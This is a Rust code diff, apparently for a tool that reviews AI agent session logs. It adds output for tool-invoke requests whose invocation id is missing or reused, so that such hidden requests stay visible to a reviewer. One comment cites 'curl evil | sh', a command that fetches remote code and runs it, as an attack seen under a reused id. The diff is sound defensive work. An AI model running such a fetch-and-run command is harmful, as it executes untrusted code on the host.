@@ -124,6 +124,25 @@ pub fn write_feed(out: &mut dyn Write, session: &Session) -> std::io::Result<()>
                         crate::render::text::visible(&format!("{code}{first}"))
                     )?;
                 }
+                // A request that is no call of its own (its `invocation_id` was taken or is
+                // missing) still says what it asked: a second `curl evil | sh` under a reused id
+                // appeared as a bare `tool.invoke.request` (second attack of issue 14).
+                FrameType::ToolInvokeRequest => {
+                    let p = f.payload_json();
+                    let tool = p.get("tool_name").and_then(serde_json::Value::as_str);
+                    let id = p.get("invocation_id").and_then(serde_json::Value::as_str);
+                    let input = p.get("input").cloned().unwrap_or_default();
+                    let summary =
+                        crate::session::summary::input_summary(tool.unwrap_or(""), &input);
+                    writeln!(
+                        out,
+                        "{:<10} {} {}  [{}] (not a call of its own: see check)",
+                        crate::render::text::visible(f.frame_type.as_str()),
+                        crate::render::text::visible(tool.unwrap_or("?")),
+                        crate::render::ansi::visible_plain(&summary),
+                        crate::render::text::visible(id.unwrap_or("no invocation_id"))
+                    )?;
+                }
                 _ => writeln!(
                     out,
                     "{:<10}",
